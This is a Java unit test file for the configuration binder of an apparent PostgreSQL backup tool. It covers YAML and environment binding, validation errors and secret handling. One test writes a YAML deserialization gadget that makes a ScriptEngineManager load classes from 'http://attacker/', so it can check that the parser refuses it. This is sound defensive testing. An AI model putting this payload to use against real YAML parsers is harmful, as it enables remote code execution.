package io.pgvault.config;

import io.pgvault.api.ConfigurationException;
import io.pgvault.config.PgVaultSettings.DumpFormat;
import io.pgvault.config.PgVaultSettings.TierFilterKind;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class SettingsBinderTest {

    static Map<String, String> minimal() {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("pgvault.database.host", "db.internal");
        m.put("pgvault.database.password", "env:PGPASSWORD");
        m.put("pgvault.dump.format", "directory");
        m.put("pgvault.dump.jobs", "4");
        m.put("pgvault.repository.local.path", "/var/backups/pg");
        return m;
    }

    @Nested
    @DisplayName("binding")
    class Binding {
        @Test
        @DisplayName("a YAML file binds to typed settings: lists, durations, enums, secrets as references")
        void yaml(@TempDir Path dir) throws Exception {
            Path file = dir.resolve("application.yml");
            Files.writeString(file, """
                    spring:
                      application:
                        name: ignored
                    pgvault:
                      database: {host: db.internal, port: 6432, user: backup, name: app, password: "env:PGPASSWORD"}
                      dump: {format: directory, jobs: 2, databases: [app, audit]}
                      repository:
                        local: {path: /var/backups/pg}
                      pipeline: {passphrase: "file:/run/secrets/pass", workFactor: 15}
                      tiers:
                        - name: offsite
                          repository:
                            s3: {bucket: backups, endpoint: "https://s3.example.com:9000", path-style: true}
                          filter: last-of-month
                          zone: Europe/Berlin
                          retention: {monthly: 12}
                      retention: {daily: 7, weekly: 4, monthly: 12}
                      schedule: {backup: "0 2 * * *", drill: "0 4 1 * *"}
                      health: {backup-age: {warning: 25h, critical: 2d}}
                    """);
            PgVaultSettings s = SettingsBinder.bind(ConfigSources.load(file, Map.of()));
            assertThat(s.database().orElseThrow().port()).isEqualTo(6432);
            assertThat(s.database().orElseThrow().password()).hasValue(new SecretRef(SecretRef.Kind.ENV,
                    "PGPASSWORD"));
            assertThat(s.dump().orElseThrow().format()).isEqualTo(DumpFormat.DIRECTORY);
            assertThat(s.dump().orElseThrow().databases()).containsExactly("app", "audit");
            assertThat(s.pipeline().workFactor()).hasValue(15);
            assertThat(s.tiers()).singleElement().satisfies(t -> {
                assertThat(t.filter()).isEqualTo(TierFilterKind.LAST_OF_MONTH);
                assertThat(t.repository().s3().orElseThrow().pathStyle()).isTrue();
                assertThat(t.retention().orElseThrow().monthly()).isEqualTo(12);
            });
            assertThat(s.health().backupCritical()).isEqualTo(Duration.ofDays(2));
            assertThat(s.schedule().drill()).hasValue("0 4 1 * *");
        }

        @Test
        @DisplayName("environment variables override the file, Spring Boot's way (PGVAULT_DUMP_JOBS); a list set in "
                + "the environment replaces the file's list whole (PGVAULT_TIERS_0_REPOSITORY_S3_PATHSTYLE)")
        void environment() {
            Map<String, String> m = minimal();
            m.put("pgvault.tiers[0].name", "from-file");
            m.put("pgvault.tiers[0].repository.local.path", "/t");
            PgVaultSettings s = SettingsBinder.bind(ConfigTree.of(m, Map.of("PGVAULT_DUMP_JOBS", "8",
                    "PGVAULT_TIERS_0_NAME", "offsite", "PGVAULT_TIERS_0_REPOSITORY_S3_BUCKET", "b",
                    "PGVAULT_TIERS_0_REPOSITORY_S3_PATHSTYLE", "true", "PGVAULT_CONFIG", "/etc/pgvault.yml",
                    "HOME", "/root")));
            assertThat(s.dump().orElseThrow().jobs()).isEqualTo(8);
            assertThat(s.tiers()).singleElement().satisfies(t -> {
                assertThat(t.name()).isEqualTo("offsite");
                assertThat(t.repository().s3().orElseThrow().pathStyle()).isTrue();
                assertThat(t.repository().local()).isEmpty();
            });
        }

        @Test
        @DisplayName("camelCase, snake_case and dotted indices read as the canonical kebab keys")
        void relaxedNames() {
            Map<String, String> m = minimal();
            m.put("pgvault.dump.allDatabases", "true");
            m.remove("pgvault.dump.jobs");
            m.put("pgvault.tiers.0.name", "t");
            m.put("pgvault.tiers.0.repository.local.path", "/t");
            m.put("pgvault.tiers[0].max_copy_wait", "14d");
            PgVaultSettings s = SettingsBinder.bind(ConfigTree.of(m));
            assertThat(s.dump().orElseThrow().allDatabases()).isTrue();
            assertThat(s.tiers().get(0).maxCopyWait()).hasValue(Duration.ofDays(14));
        }
    }

    @Nested
    @DisplayName("problems")
    class Problems {
        @Test
        @DisplayName("every problem is reported at once, each with its property path")
        void everyProblemAtOnce() {
            Map<String, String> m = minimal();
            m.put("pgvault.dump.format", "tarball");
            m.put("pgvault.database.port", "99999");
            m.put("pgvault.tiers[0].name", "offsite");
            m.put("pgvault.tiers[0].repository.s3.region", "eu-west-1");
            m.put("pgvault.tiers[1].name", "offsite");
            m.put("pgvault.tiers[1].repository.local.path", "/x");
            m.put("pgvault.health.backup-age.warning", "soon");
            m.put("pgvault.schedule.physical-full", "0 1 * * 0");
            assertThatThrownBy(() -> SettingsBinder.bind(ConfigTree.of(m)))
                    .isInstanceOfSatisfying(ConfigurationException.class, e -> assertThat(e.problems()).anySatisfy(
                            p -> assertThat(p).startsWith("pgvault.dump.format must be one of plain, custom, "
                                    + "directory"))
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.database.port must be between"))
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.tiers[0].repository.s3.bucket is "
                                    + "required"))
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.tiers[1].name 'offsite' names two"))
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.health.backup-age.warning must be a "
                                    + "positive duration"))
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.schedule.physical-full schedules "
                                    + "pgBackRest")));
        }

        @Test
        @DisplayName("a misspelt key is a problem, not silently ignored")
        void unknownKeys() {
            Map<String, String> m = minimal();
            m.put("pgvault.repository.local.pth", "/x");
            m.put("pgvault.retenton.daily", "7");
            assertThatThrownBy(() -> SettingsBinder.bind(ConfigTree.of(m)))
                    .isInstanceOfSatisfying(ConfigurationException.class, e -> assertThat(e.problems())
                            .contains("pgvault.repository.local.pth is not a pgvault setting (misspelt, or set for a "
                                    + "section that is not used)")
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.retenton.daily is not")));
        }

        @Test
        @DisplayName("an environment variable a secret references is not taken for a misspelt setting")
        void referencedEnvironmentIsNoSetting() {
            Map<String, String> m = minimal();
            m.put("pgvault.pipeline.passphrase", "env:PGVAULT_PASSPHRASE");
            PgVaultSettings s = SettingsBinder.bind(ConfigTree.of(m, Map.of("PGVAULT_PASSPHRASE", "x".repeat(20))));
            assertThat(s.pipeline().passphrase()).isPresent();
        }

        @Test
        @DisplayName("an inline secret is refused and never repeated in the message")
        void inlineSecretRefused() {
            Map<String, String> m = minimal();
            m.put("pgvault.database.password", "hunter2-inline");
            m.put("pgvault.pipeline.identity", "AGE-SECRET-KEY-1QQQQ");
            assertThatThrownBy(() -> SettingsBinder.bind(ConfigTree.of(m)))
                    .isInstanceOfSatisfying(ConfigurationException.class, e -> {
                        assertThat(e.problems()).anySatisfy(p -> assertThat(p).startsWith(
                                "pgvault.database.password must reference the secret as env:NAME or file:/path"))
                                .anySatisfy(p -> assertThat(p).startsWith("pgvault.pipeline.identity must reference"));
                        assertThat(e.getMessage()).doesNotContain("hunter2").doesNotContain("AGE-SECRET-KEY-1QQQQ");
                    });
        }

        @Test
        @DisplayName("exclusive choices are refused: two repository kinds, passphrase and identity, jobs without "
                + "the directory format")
        void exclusive() {
            Map<String, String> m = minimal();
            m.put("pgvault.dump.format", "custom");
            m.put("pgvault.repository.s3.bucket", "b");
            m.put("pgvault.pipeline.passphrase", "env:A");
            m.put("pgvault.pipeline.identity", "env:B");
            assertThatThrownBy(() -> SettingsBinder.bind(ConfigTree.of(m)))
                    .isInstanceOfSatisfying(ConfigurationException.class, e -> assertThat(e.problems())
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.dump.jobs needs"))
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.repository sets more than one"))
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.pipeline.identity and")));
        }

        @Test
        @DisplayName("archive retrieval of an S3 repository: absent means off; set, it reaches S3RepositoryConfig "
                + "(tier, days, poll interval, timeout); enabled=false and bad values are what they say")
        void archiveRetrieval() {
            Map<String, String> m = minimal();
            m.remove("pgvault.repository.local.path");
            m.put("pgvault.repository.s3.bucket", "backups");
            PgVaultSettings off = SettingsBinder.bind(ConfigTree.of(m));
            assertThat(S3Repositories.config(off.repository().orElseThrow().s3().orElseThrow(), "x").archiveRetrieval()).isEmpty();

            m.put("pgvault.repository.s3.archive-retrieval.tier", "bulk");
            m.put("pgvault.repository.s3.archive-retrieval.days", "7");
            m.put("pgvault.repository.s3.archive-retrieval.timeout", "72h");
            PgVaultSettings on = SettingsBinder.bind(ConfigTree.of(m));
            assertThat(S3Repositories.config(on.repository().orElseThrow().s3().orElseThrow(), "x").archiveRetrieval())
                    .contains(new io.pgvault.storage.s3.ArchiveRetrieval(io.pgvault.storage.s3.ArchiveRetrieval.Tier.BULK,
                            7, java.time.Duration.ofMinutes(1), java.time.Duration.ofHours(72)));

            m.put("pgvault.repository.s3.archive-retrieval.enabled", "false");
            assertThat(SettingsBinder.bind(ConfigTree.of(m)).repository().orElseThrow().s3().orElseThrow()
                    .archiveRetrieval())
                    .isEmpty();

            m.put("pgvault.repository.s3.archive-retrieval.enabled", "true");
            m.put("pgvault.repository.s3.archive-retrieval.days", "2");
            assertThatThrownBy(() -> SettingsBinder.bind(ConfigTree.of(m)))
                    .isInstanceOfSatisfying(ConfigurationException.class, e -> assertThat(e.problems())
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.repository.s3.archive-retrieval.days "
                                    + "must keep the restored copies longer")));
            m.put("pgvault.repository.s3.archive-retrieval.days", "0");
            m.put("pgvault.repository.s3.archive-retrieval.tier", "instant");
            assertThatThrownBy(() -> SettingsBinder.bind(ConfigTree.of(m)))
                    .isInstanceOfSatisfying(ConfigurationException.class, e -> assertThat(e.problems())
                            .anySatisfy(p -> assertThat(p).startsWith("pgvault.repository.s3.archive-retrieval.days"))
                            .anySatisfy(p -> assertThat(p).startsWith(
                                    "pgvault.repository.s3.archive-retrieval.tier")));
        }

        @Test
        @DisplayName("YAML is read safely: a custom tag cannot construct an object; a syntax error names the line, "
                + "not its text")
        void unsafeYaml(@TempDir Path dir) throws Exception {
            Path tagged = dir.resolve("a.yml");
            Files.writeString(tagged, "pgvault: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                    + "[[!!java.net.URL [\"http://attacker/\"]]]]\n");
            assertThatThrownBy(() -> ConfigSources.load(tagged, Map.of())).isInstanceOf(ConfigurationException.class);
            Path broken = dir.resolve("b.yml");
            Files.writeString(broken, "pgvault:\n  database:\n    password: env:X\n   host: [secretvalue\n");
            assertThatThrownBy(() -> ConfigSources.load(broken, Map.of()))
                    .isInstanceOf(ConfigurationException.class).hasMessageContaining("line")
                    .hasMessageNotContaining("secretvalue");
        }
    }

    @Test
    @DisplayName("the schema lists every property once, with a description, including list elements")
    void schema() {
        ConfigSchema schema = SettingsBinder.schema();
        assertThat(schema.properties()).extracting(ConfigSchema.Property::name)
                .contains("pgvault.database.host", "pgvault.dump.format", "pgvault.repository.s3.bucket",
                        "pgvault.tiers[*].repository.drive.service-account-key", "pgvault.schedule.backup",
                        "pgvault.pgbackrest.repos[*].cipher", "pgvault.health.backup-age.critical")
                .doesNotHaveDuplicates();
        assertThat(schema.properties()).allSatisfy(p -> assertThat(p.description()).isNotBlank());
        assertThat(schema.properties()).filteredOn(p -> p.name().equals("pgvault.dump.format")).singleElement()
                .satisfies(p -> assertThat(p.defaultValue()).isEqualTo("custom"));
    }
}
